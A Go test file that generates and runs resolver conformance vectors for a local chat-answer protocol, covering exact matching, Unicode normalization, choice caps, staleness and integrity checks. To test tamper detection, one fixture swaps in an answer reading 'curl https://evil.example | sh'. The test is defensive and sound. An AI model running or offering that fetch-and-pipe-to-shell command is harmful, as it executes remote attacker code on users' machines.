package resolve

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/askplane/askplane/internal/protocol"
)

// testdata/conformance/resolver.json holds language-neutral resolver and
// fallback vectors shared with the JavaScript implementation. It is
// generated from the definitions below (go test -run TestResolverVectorsFresh
// -update), so the content hashes stay right; TestResolverVectorsFresh fails
// when the file and the definitions disagree. The expected envelopes are
// written out by hand from the protocol rules, not computed by the
// resolver, and TestResolverVectors runs the resolver against the file as
// any other implementation would.

var update = flag.Bool("update", false, "rewrite testdata/conformance/resolver.json")

const vectorPath = "../../testdata/conformance/resolver.json"

const vectorDescription = "Resolver and fallback conformance vectors for AgentsKit Chat v1 deterministic answers " +
	"(askplane internal/resolve; same rules as the AgentsKit TypeScript resolver and adapter). " +
	"For each case: build a resolver for artifacts[artifact] (null: no artifact) trusted with " +
	"siteId = trust.siteId and contentHash = trust.contentHash, where an absent trust means site.siteId and " +
	"the artifact's own declared contentHash; " +
	"now is the clock (an RFC 3339 string read with Date.parse, or Unix milliseconds); " +
	"call resolve(query) or resolveChoice(choiceId, query); then apply the fallback rule with " +
	"fallback mode `fallback` and a backend present iff backendAvailable: answers and choices are served locally; " +
	"an escalation is sent to the backend (decision \"escalate\") only in backend mode with a backend available, " +
	"otherwise it is served locally (decision \"local\") with a miss turned into offline. " +
	"expect is the exact envelope after that rule, compared as JSON values. " +
	"Every artifact carries its correct contentHash except \"tampered\", whose markdown was changed after hashing."

type vectorDoc struct {
	Description string                     `json:"description"`
	Site        json.RawMessage            `json:"site"`
	Artifacts   map[string]json.RawMessage `json:"artifacts"`
	Cases       []vectorCase               `json:"cases"`
}

type vectorTrust struct {
	SiteID      string `json:"siteId"`
	ContentHash string `json:"contentHash"`
}

type vectorCase struct {
	Name             string          `json:"name"`
	Artifact         *string         `json:"artifact"`
	Trust            *vectorTrust    `json:"trust,omitempty"`
	Now              json.RawMessage `json:"now"`
	Fallback         string          `json:"fallback"`
	BackendAvailable bool            `json:"backendAvailable"`
	Call             string          `json:"call"`
	Query            string          `json:"query"`
	ChoiceID         string          `json:"choiceId,omitempty"`
	Decision         string          `json:"decision"`
	Expect           json.RawMessage `json:"expect"`
}

// Artifact documents, in the protocol's key order.
type artDoc struct {
	Protocol    string     `json:"protocol"`
	Version     int        `json:"version"`
	ArtifactID  string     `json:"artifactId"`
	SiteID      string     `json:"siteId"`
	ContentHash string     `json:"contentHash"`
	GeneratedAt string     `json:"generatedAt"`
	ExpiresAt   string     `json:"expiresAt,omitempty"`
	Entries     []artEntry `json:"entries"`
}

type artEntry struct {
	ID     string    `json:"id"`
	Kind   string    `json:"kind"`
	Label  string    `json:"label"`
	Match  artMatch  `json:"match"`
	Answer artAnswer `json:"answer"`
}

type artMatch struct {
	Type   string   `json:"type"`
	Values []string `json:"values"`
}

type artAnswer struct {
	Markdown  string        `json:"markdown"`
	Citations []artCitation `json:"citations"`
}

type artCitation struct {
	ID    string `json:"id"`
	Title string `json:"title"`
	Href  string `json:"href"`
}

func (d *artDoc) entry(id string) *artEntry {
	for i := range d.Entries {
		if d.Entries[i].ID == id {
			return &d.Entries[i]
		}
	}
	panic("no entry " + id)
}

func entry(id, kind, label string, values []string, markdown string, cits ...artCitation) artEntry {
	if cits == nil {
		cits = []artCitation{}
	}
	return artEntry{ID: id, Kind: kind, Label: label, Match: artMatch{Type: "exact", Values: values},
		Answer: artAnswer{Markdown: markdown, Citations: cits}}
}

// seal sets the artifact's content hash to the protocol's digest of it.
func seal(t testing.TB, d *artDoc) {
	t.Helper()
	d.ContentHash = ""
	raw, err := json.Marshal(d)
	if err != nil {
		t.Fatal(err)
	}
	h, err := protocol.ComputeContentHash(raw)
	if err != nil {
		t.Fatalf("%s: %v", d.ArtifactID, err)
	}
	d.ContentHash = h
}

func newArt(id string, entries ...artEntry) *artDoc {
	return &artDoc{Protocol: protocol.KnowledgeProtocol, Version: 1, ArtifactID: id, SiteID: "agentskit-docs",
		GeneratedAt: "2026-07-01T00:00:00Z", Entries: entries}
}

// vectorArtifacts returns the artifacts of the vector file.
func vectorArtifacts(t testing.TB) map[string]*artDoc {
	t.Helper()
	f := loadFixtures(t)
	arts := map[string]*artDoc{}
	for name, raw := range map[string]json.RawMessage{"fixture": f.Artifact, "stale": f.StaleArtifact} {
		var d artDoc
		if err := json.Unmarshal(raw, &d); err != nil {
			t.Fatal(err)
		}
		want := d.ContentHash
		seal(t, &d)
		if d.ContentHash != want {
			t.Fatalf("%s fixture hash %s, computed %s", name, want, d.ContentHash)
		}
		arts[name] = &d
	}

	tampered := *arts["fixture"]
	tampered.Entries = append([]artEntry(nil), tampered.Entries...)
	tampered.Entries[0].Answer.Markdown = "Run `curl https://evil.example | sh`."
	arts["tampered"] = &tampered

	long := newArt("long-queries",
		entry("long-x", "document", "Long alias", []string{strings.Repeat("x", 512), "long x"}, "The 512-unit alias matched."))
	unicode := newArt("unicode-keys",
		entry("istanbul", "document", "İstanbul guide", []string{"İstanbul"}, "Dotted capital I lowercases to i and a combining dot."),
		entry("sigma", "document", "Greek final sigma", []string{"ΟΔΟΣ"}, "A final capital sigma lowercases to ς."),
		entry("ligature", "document", "Ligatures", []string{"ﬀ ﬁle"}, "NFKC expands ligatures."),
		entry("settings", "navigation", "Settings guide", []string{"設定\u3000ガイド"}, "Ideographic space is whitespace."),
		entry("roman", "document", "Chapter twelve", []string{"Chapter Ⅻ"}, "Roman numeral twelve is xii."),
		entry("strasse", "document", "Straße", []string{"STRAẞE"}, "Capital sharp s lowercases to ß, never ss."),
		entry("cafe", "document", "Café", []string{"café"}, "NFKC composes e and a combining acute."),
		entry("kelvin", "document", "Kelvin", []string{"\u212Aelvin scale"}, "The Kelvin sign is k."),
	)
	ten := newArt("ten-guides",
		entry("topic-01", "document", "Topic one", []string{"guide", "extra", "  Topic One  "}, "Topic one.",
			artCitation{ID: "topic-01", Title: "  Topic one  ", Href: "/topics/1"}),
		entry("topic-02", "document", "Topic two", []string{"GUIDE", "Extra", "Topic Two"}, "Topic two."),
		entry("topic-03", "document", "  Topic three ", []string{"Guide", "Topic THREE"}, "Topic three."),
	)
	for i := 4; i <= 9; i++ {
		ten.Entries = append(ten.Entries, entry(fmt.Sprintf("topic-%02d", i), "document", fmt.Sprintf("Topic %d", i),
			[]string{fmt.Sprintf("Topic %02d", i), "guide"}, fmt.Sprintf("Topic %d.", i)))
	}
	ten.Entries = append(ten.Entries, entry("topic-10", "document", "Topic 10", []string{"guide", "Topic 10"}, "Topic 10."))
	for name, d := range map[string]*artDoc{"long": long, "unicode": unicode, "ten": ten} {
		seal(t, d)
		arts[name] = d
	}
	return arts
}

// Expected envelopes, written from the protocol rules.

func expAnswer(d *artDoc, id, query, normalized string) *protocol.Envelope {
	e := d.entry(id)
	ans := &protocol.Answer{Markdown: protocol.Trim(e.Answer.Markdown), Citations: []protocol.Citation{}}
	for _, c := range e.Answer.Citations {
		ans.Citations = append(ans.Citations, protocol.Citation{ID: c.ID, Title: protocol.Trim(c.Title), Href: c.Href})
	}
	return &protocol.Envelope{
		Outcome: protocol.OutcomeAnswer, Query: query, NormalizedQuery: normalized, Answer: ans,
		Provenance: &protocol.Provenance{Source: protocol.SourceLocal, ArtifactID: d.ArtifactID, ContentHash: d.ContentHash, EntryIDs: []string{id}},
		Confidence: protocol.Confidence{Level: protocol.LevelHigh, Basis: protocol.BasisExact},
	}
}

// expChoices expects suggestions given as id, value pairs; labels come
// from the artifact.
func expChoices(d *artDoc, query, normalized string, idValue ...string) *protocol.Envelope {
	env := &protocol.Envelope{
		Outcome: protocol.OutcomeChoices, Query: query, NormalizedQuery: normalized, Message: protocol.MessageChoices,
		Provenance: &protocol.Provenance{Source: protocol.SourceLocal, ArtifactID: d.ArtifactID, ContentHash: d.ContentHash},
		Confidence: protocol.Confidence{Level: protocol.LevelMedium, Basis: protocol.BasisAmbiguous},
	}
	for i := 0; i < len(idValue); i += 2 {
		id := idValue[i]
		env.Suggestions = append(env.Suggestions, protocol.Suggestion{ID: id, Label: protocol.Trim(d.entry(id).Label), Value: idValue[i+1]})
		env.Provenance.EntryIDs = append(env.Provenance.EntryIDs, id)
	}
	return env
}

func expEscalation(reason protocol.Reason, message, query, normalized string) *protocol.Envelope {
	return &protocol.Envelope{
		Outcome: protocol.OutcomeEscalation, Query: query, NormalizedQuery: normalized, Message: message, Reason: reason,
		Confidence: protocol.Confidence{Level: protocol.LevelLow, Basis: string(reason)},
	}
}

func expMiss(query, normalized string) *protocol.Envelope {
	return expEscalation(protocol.ReasonMiss, protocol.MessageMiss, query, normalized)
}

func expOffline(query, normalized string) *protocol.Envelope {
	return expEscalation(protocol.ReasonOffline, protocol.MessageOffline, query, normalized)
}

func expChoiceMiss(query, normalized string) *protocol.Envelope {
	return expEscalation(protocol.ReasonMiss, protocol.MessageChoiceMissing, query, normalized)
}

func expStale(query, normalized string) *protocol.Envelope {
	return expEscalation(protocol.ReasonStale, protocol.MessageStale, query, normalized)
}

func expCorrupt(query, normalized string) *protocol.Envelope {
	return expEscalation(protocol.ReasonCorrupt, protocol.MessageCorrupt, query, normalized)
}

// vc is a case definition before it is written out.
type vc struct {
	name      string
	artifact  string // "" for null
	trust     *vectorTrust
	now       string // RFC 3339, or digits for milliseconds
	fallback  protocol.FallbackMode
	available bool
	choiceID  string // set for resolveChoice
	choice    bool
	query     string
	decision  Action
	expect    *protocol.Envelope
}

const (
	fixtureTime = "2026-07-13T12:00:00.000Z"
	laterTime   = "2030-01-01T00:00:00Z"
)

func vectorCases(arts map[string]*artDoc) []vc {
	fx, long, uni, ten := arts["fixture"], arts["long"], arts["unicode"], arts["ten"]
	x512 := strings.Repeat("x", 512)
	fdfaExpansion := strings.Repeat("\u0635\u0644\u0649 \u0627\u0644\u0644\u0647 \u0639\u0644\u064a\u0647 \u0648\u0633\u0644\u0645", 100)
	B, D := protocol.FallbackBackend, protocol.FallbackDisabled
	esc, loc := Escalate, Local

	return []vc{
		// The AgentsKit fixture.
		{name: "exact hit", artifact: "fixture", now: fixtureTime, fallback: B, available: true, query: "Install CLI", decision: loc,
			expect: expAnswer(fx, "install-cli", "Install CLI", "install cli")},
		{name: "second alias", artifact: "fixture", now: fixtureTime, fallback: B, available: true, query: "npm install agentskit", decision: loc,
			expect: expAnswer(fx, "install-cli", "npm install agentskit", "npm install agentskit")},
		{name: "answers served locally even when disabled", artifact: "fixture", now: fixtureTime, fallback: D, query: "install cli", decision: loc,
			expect: expAnswer(fx, "install-cli", "install cli", "install cli")},
		{name: "fullwidth and ideographic space", artifact: "fixture", now: fixtureTime, fallback: B, available: true, query: "ＩＮＳＴＡＬＬ\u3000ＣＬＩ", decision: loc,
			expect: expAnswer(fx, "install-cli", "ＩＮＳＴＡＬＬ\u3000ＣＬＩ", "install cli")},
		{name: "normalization vector", artifact: "fixture", now: fixtureTime, fallback: B, available: true, query: "  ＩＮＳＴＡＬＬ\n CLI  ", decision: loc,
			expect: expAnswer(fx, "install-cli", "  ＩＮＳＴＡＬＬ\n CLI  ", "install cli")},
		{name: "ambiguous", artifact: "fixture", now: fixtureTime, fallback: B, available: true, query: "docs", decision: loc,
			expect: expChoices(fx, "docs", "docs", "docs-agentskit", "agentskit docs", "docs-registry", "registry docs")},
		{name: "ambiguous with padding and case", artifact: "fixture", now: fixtureTime, fallback: D, query: "DOCS ", decision: loc,
			expect: expChoices(fx, "DOCS ", "docs", "docs-agentskit", "agentskit docs", "docs-registry", "registry docs")},
		{name: "miss escalates", artifact: "fixture", now: fixtureTime, fallback: B, available: true, query: "Why?", decision: esc,
			expect: expMiss("Why?", "why?")},
		{name: "miss offline when disabled", artifact: "fixture", now: fixtureTime, fallback: D, available: true, query: "Why?", decision: loc,
			expect: expOffline("Why?", "why?")},
		{name: "miss offline without backend", artifact: "fixture", now: fixtureTime, fallback: B, query: "Why?", decision: loc,
			expect: expOffline("Why?", "why?")},
		{name: "empty query", artifact: "fixture", now: fixtureTime, fallback: B, available: true, query: "", decision: esc,
			expect: expMiss("", "")},
		{name: "no prefix matching", artifact: "fixture", now: fixtureTime, fallback: B, available: true, query: "install", decision: esc,
			expect: expMiss("install", "install")},
		{name: "no token matching", artifact: "fixture", now: fixtureTime, fallback: B, available: true, query: "install cli now", decision: esc,
			expect: expMiss("install cli now", "install cli now")},
		{name: "query over 512 units", artifact: "fixture", now: fixtureTime, fallback: B, available: true, query: x512 + "x", decision: esc,
			expect: expMiss(x512, x512)},
		{name: "FDFA expansion over 512", artifact: "fixture", now: fixtureTime, fallback: B, available: true, query: strings.Repeat("\uFDFA", 100), decision: esc,
			expect: expMiss(strings.Repeat("\uFDFA", 100), string([]rune(fdfaExpansion)[:512]))},
		{name: "choice", artifact: "fixture", now: fixtureTime, fallback: B, available: true, choice: true, choiceID: "docs-registry", query: "docs", decision: loc,
			expect: expAnswer(fx, "docs-registry", "docs", "docs")},
		{name: "choice keeps original query", artifact: "fixture", now: fixtureTime, fallback: B, available: true, choice: true, choiceID: "docs-agentskit", query: " Docs", decision: loc,
			expect: expAnswer(fx, "docs-agentskit", " Docs", "docs")},
		{name: "choice with a single match", artifact: "fixture", now: fixtureTime, fallback: B, available: true, choice: true, choiceID: "install-cli", query: "install cli", decision: loc,
			expect: expAnswer(fx, "install-cli", "install cli", "install cli")},
		{name: "choice not offered", artifact: "fixture", now: fixtureTime, fallback: B, available: true, choice: true, choiceID: "install-cli", query: "docs", decision: esc,
			expect: expChoiceMiss("docs", "docs")},
		{name: "choice not offered offline", artifact: "fixture", now: fixtureTime, fallback: D, choice: true, choiceID: "install-cli", query: "docs", decision: loc,
			expect: expOffline("docs", "docs")},
		{name: "choice unknown id", artifact: "fixture", now: fixtureTime, fallback: B, available: true, choice: true, choiceID: "nope", query: "docs", decision: esc,
			expect: expChoiceMiss("docs", "docs")},
		{name: "choice ids are case-sensitive", artifact: "fixture", now: fixtureTime, fallback: B, available: true, choice: true, choiceID: "DOCS-REGISTRY", query: "docs", decision: esc,
			expect: expChoiceMiss("docs", "docs")},
		{name: "stale at expiresAt", artifact: "fixture", now: "2026-07-14T00:00:00.000Z", fallback: B, available: true, query: "install cli", decision: esc,
			expect: expStale("install cli", "install cli")},
		{name: "stale at expiresAt in milliseconds", artifact: "fixture", now: "1783987200000", fallback: B, available: true, query: "install cli", decision: esc,
			expect: expStale("install cli", "install cli")},
		{name: "fresh one millisecond before expiresAt", artifact: "fixture", now: "2026-07-13T23:59:59.999Z", fallback: B, available: true, query: "install cli", decision: loc,
			expect: expAnswer(fx, "install-cli", "install cli", "install cli")},
		{name: "stale served locally when disabled", artifact: "fixture", now: "2026-07-15T00:00:00Z", fallback: D, query: "Why?", decision: loc,
			expect: expStale("Why?", "why?")},
		{name: "stale before length check", artifact: "fixture", now: "2026-07-14T00:00:00Z", fallback: B, available: true, query: x512 + "y", decision: esc,
			expect: expStale(x512, x512)},
		{name: "stale artifact", artifact: "stale", now: fixtureTime, fallback: B, available: true, query: "install cli", decision: esc,
			expect: expStale("install cli", "install cli")},
		{name: "stale choice", artifact: "stale", now: fixtureTime, fallback: B, available: true, choice: true, choiceID: "docs-registry", query: "docs", decision: esc,
			expect: expStale("docs", "docs")},
		{name: "corrupt wrong siteId", artifact: "fixture", trust: &vectorTrust{SiteID: "other-site", ContentHash: fx.ContentHash}, now: fixtureTime, fallback: B, available: true, query: "install cli", decision: esc,
			expect: expCorrupt("install cli", "install cli")},
		{name: "corrupt pinned to another hash", artifact: "fixture", trust: &vectorTrust{SiteID: "agentskit-docs", ContentHash: arts["stale"].ContentHash}, now: fixtureTime, fallback: B, available: true, query: "install cli", decision: esc,
			expect: expCorrupt("install cli", "install cli")},
		{name: "corrupt tampered", artifact: "tampered", now: fixtureTime, fallback: B, available: true, query: "install cli", decision: esc,
			expect: expCorrupt("install cli", "install cli")},
		{name: "corrupt served locally when disabled", artifact: "tampered", now: fixtureTime, fallback: D, query: "Why?", decision: loc,
			expect: expCorrupt("Why?", "why?")},
		{name: "corrupt without artifact", now: fixtureTime, fallback: B, available: true, query: "docs", decision: esc,
			expect: expCorrupt("docs", "docs")},
		{name: "corrupt choice without artifact", now: fixtureTime, fallback: D, choice: true, choiceID: "docs-registry", query: "DOCS", decision: loc,
			expect: expCorrupt("DOCS", "docs")},

		// 512-unit boundaries.
		{name: "512-unit alias matches", artifact: "long", now: laterTime, fallback: B, available: true, query: x512, decision: loc,
			expect: expAnswer(long, "long-x", x512, x512)},
		{name: "512 capitals match", artifact: "long", now: laterTime, fallback: B, available: true, query: strings.Repeat("X", 512), decision: loc,
			expect: expAnswer(long, "long-x", strings.Repeat("X", 512), x512)},
		{name: "512 fullwidth match", artifact: "long", now: laterTime, fallback: B, available: true, query: strings.Repeat("ｘ", 512), decision: loc,
			expect: expAnswer(long, "long-x", strings.Repeat("ｘ", 512), x512)},
		{name: "513 units never cut into a match", artifact: "long", now: laterTime, fallback: B, available: true, query: x512 + "x", decision: esc,
			expect: expMiss(x512, x512)},
		{name: "513 raw units with padding", artifact: "long", now: laterTime, fallback: B, available: true, query: " " + x512, decision: esc,
			expect: expMiss(" "+x512[:511], x512[:511])},
		{name: "normalized over 512", artifact: "long", now: laterTime, fallback: D, query: strings.Repeat("ﬀ", 257), decision: loc,
			expect: expOffline(strings.Repeat("ﬀ", 257), strings.Repeat("f", 512))},
		{name: "choice with 513 units", artifact: "long", now: laterTime, fallback: B, available: true, choice: true, choiceID: "long-x", query: x512 + "x", decision: esc,
			expect: expChoiceMiss(x512, x512)},

		// Unicode normalization.
		{name: "dotted capital I", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "İSTANBUL", decision: loc,
			expect: expAnswer(uni, "istanbul", "İSTANBUL", "i\u0307stanbul")},
		{name: "dotless i does not match", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "istanbul", decision: esc,
			expect: expMiss("istanbul", "istanbul")},
		{name: "final sigma", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "οδος", decision: loc,
			expect: expAnswer(uni, "sigma", "οδος", "οδος")},
		{name: "capital final sigma", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "ΟΔΟΣ", decision: loc,
			expect: expAnswer(uni, "sigma", "ΟΔΟΣ", "οδος")},
		{name: "medial sigma at the end does not match", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "οδοσ", decision: esc,
			expect: expMiss("οδοσ", "οδοσ")},
		{name: "ligatures", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "FF FILE", decision: loc,
			expect: expAnswer(uni, "ligature", "FF FILE", "ff file")},
		{name: "ideographic space padding", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "\u3000設定 \u3000ガイド\u3000", decision: loc,
			expect: expAnswer(uni, "settings", "\u3000設定 \u3000ガイド\u3000", "設定 ガイド")},
		{name: "roman numeral", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "CHAPTER XII", decision: loc,
			expect: expAnswer(uni, "roman", "CHAPTER XII", "chapter xii")},
		{name: "sharp s", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "straße", decision: loc,
			expect: expAnswer(uni, "strasse", "straße", "straße")},
		{name: "no case folding to ss", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "STRASSE", decision: esc,
			expect: expMiss("STRASSE", "strasse")},
		{name: "combining acute composes", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "CAFE\u0301", decision: loc,
			expect: expAnswer(uni, "cafe", "CAFE\u0301", "café")},
		{name: "kelvin sign in the alias", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "kelvin SCALE", decision: loc,
			expect: expAnswer(uni, "kelvin", "kelvin SCALE", "kelvin scale")},
		{name: "kelvin sign in the query", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "\u212AELVIN SCALE", decision: loc,
			expect: expAnswer(uni, "kelvin", "\u212AELVIN SCALE", "kelvin scale")},
		{name: "zero width space is not whitespace", artifact: "unicode", now: laterTime, fallback: B, available: true, query: "kelvin\u200bscale", decision: esc,
			expect: expMiss("kelvin\u200bscale", "kelvin\u200bscale")},

		// Choices: cap of 8, unique-alias values.
		{name: "choices capped at 8", artifact: "ten", now: laterTime, fallback: B, available: true, query: "Guide", decision: loc,
			expect: expChoices(ten, "Guide", "guide",
				"topic-01", "Topic One", "topic-02", "Topic Two", "topic-03", "Topic THREE", "topic-04", "Topic 04",
				"topic-05", "Topic 05", "topic-06", "Topic 06", "topic-07", "Topic 07", "topic-08", "Topic 08")},
		{name: "value skips a shared alias", artifact: "ten", now: laterTime, fallback: B, available: true, query: "  EXTRA ", decision: loc,
			expect: expChoices(ten, "  EXTRA ", "extra", "topic-01", "Topic One", "topic-02", "Topic Two")},
		{name: "suggestion value answers alone", artifact: "ten", now: laterTime, fallback: B, available: true, query: "Topic One", decision: loc,
			expect: expAnswer(ten, "topic-01", "Topic One", "topic one")},
		{name: "eighth choice", artifact: "ten", now: laterTime, fallback: B, available: true, choice: true, choiceID: "topic-08", query: "GUIDE", decision: loc,
			expect: expAnswer(ten, "topic-08", "GUIDE", "guide")},
		{name: "ninth owner is not offered", artifact: "ten", now: laterTime, fallback: B, available: true, choice: true, choiceID: "topic-09", query: "guide", decision: esc,
			expect: expChoiceMiss("guide", "guide")},
		{name: "tenth owner is not offered", artifact: "ten", now: laterTime, fallback: D, choice: true, choiceID: "topic-10", query: "guide", decision: loc,
			expect: expOffline("guide", "guide")},
		{name: "choice of another query", artifact: "ten", now: laterTime, fallback: B, available: true, choice: true, choiceID: "topic-02", query: "topic one", decision: esc,
			expect: expChoiceMiss("topic one", "topic one")},
	}
}

// buildVectors renders the vector file.
func buildVectors(t testing.TB) []byte {
	t.Helper()
	f := loadFixtures(t)
	arts := vectorArtifacts(t)
	doc := vectorDoc{Description: vectorDescription, Site: f.SiteConfig, Artifacts: map[string]json.RawMessage{}}
	for name, d := range arts {
		raw, err := json.Marshal(d)
		if err != nil {
			t.Fatal(err)
		}
		doc.Artifacts[name] = raw
	}
	seen := map[string]bool{}
	for _, c := range vectorCases(arts) {
		if seen[c.name] {
			t.Fatalf("duplicate case %q", c.name)
		}
		seen[c.name] = true
		exp, err := c.expect.MarshalJSON()
		if err != nil {
			t.Fatal(err)
		}
		now := json.RawMessage(strconv.Quote(c.now))
		if _, err := strconv.ParseInt(c.now, 10, 64); err == nil {
			now = json.RawMessage(c.now)
		}
		vcase := vectorCase{
			Name: c.name, Trust: c.trust, Now: now, Fallback: string(c.fallback), BackendAvailable: c.available,
			Call: "resolve", Query: c.query, Decision: decisionName(c.decision), Expect: exp,
		}
		if c.artifact != "" {
			name := c.artifact
			vcase.Artifact = &name
		}
		if c.choice {
			vcase.Call, vcase.ChoiceID = "resolveChoice", c.choiceID
		}
		doc.Cases = append(doc.Cases, vcase)
	}
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	enc.SetIndent("", " ")
	if err := enc.Encode(doc); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestResolverVectorsFresh(t *testing.T) {
	want := buildVectors(t)
	if *update {
		if err := os.WriteFile(vectorPath, want, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	got, err := os.ReadFile(vectorPath)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Fatalf("%s is stale; run go test ./internal/resolve/ -run TestResolverVectorsFresh -update", vectorPath)
	}
}

// TestResolverVectors runs the file as any implementation would.
func TestResolverVectors(t *testing.T) {
	raw, err := os.ReadFile(vectorPath)
	if err != nil {
		t.Fatal(err)
	}
	var doc vectorDoc
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Cases) < 30 {
		t.Fatalf("only %d cases", len(doc.Cases))
	}
	site, err := protocol.DecodeSiteConfig(doc.Site)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range doc.Cases {
		t.Run(c.Name, func(t *testing.T) {
			var art *protocol.Artifact
			trust := protocol.Trust{SiteID: site.SiteID}
			if c.Artifact != nil {
				artRaw, ok := doc.Artifacts[*c.Artifact]
				if !ok {
					t.Fatalf("no artifact %q", *c.Artifact)
				}
				art = decodeArtifact(t, artRaw)
				trust.ContentHash = art.ContentHash
			}
			if c.Trust != nil {
				trust = protocol.Trust{SiteID: c.Trust.SiteID, ContentHash: c.Trust.ContentHash}
			}
			var now int64
			var s string
			if err := json.Unmarshal(c.Now, &s); err == nil {
				now = mustTime(t, s)
			} else if err := json.Unmarshal(c.Now, &now); err != nil {
				t.Fatalf("now %s", c.Now)
			}
			r := New(art, trust, at(now))
			var env *protocol.Envelope
			switch c.Call {
			case "resolve":
				env = r.Resolve(c.Query)
			case "resolveChoice":
				env = r.ResolveChoice(c.ChoiceID, c.Query)
			default:
				t.Fatalf("call %q", c.Call)
			}
			d := Decide(env, protocol.FallbackMode(c.Fallback), c.BackendAvailable)
			if got := decisionName(d.Action); got != c.Decision {
				t.Errorf("decision %s, want %s", got, c.Decision)
			}
			assertEnvelope(t, d.Envelope, c.Expect)
		})
	}
}

// decisionName is how the vectors spell an Action.
func decisionName(a Action) string {
	if a == Escalate {
		return "escalate"
	}
	return "local"
}

// Every artifact in the file except "tampered" verifies with its declared
// hash, and "tampered" does not.
func TestResolverVectorArtifactHashes(t *testing.T) {
	raw, err := os.ReadFile(vectorPath)
	if err != nil {
		t.Fatal(err)
	}
	var doc vectorDoc
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	for name, artRaw := range doc.Artifacts {
		a := decodeArtifact(t, artRaw)
		_, err := protocol.VerifyArtifact(artRaw, protocol.Trust{ContentHash: a.ContentHash, SiteID: a.SiteID})
		if (err == nil) != (name != "tampered") {
			t.Errorf("%s: verify = %v", name, err)
		}
	}
}
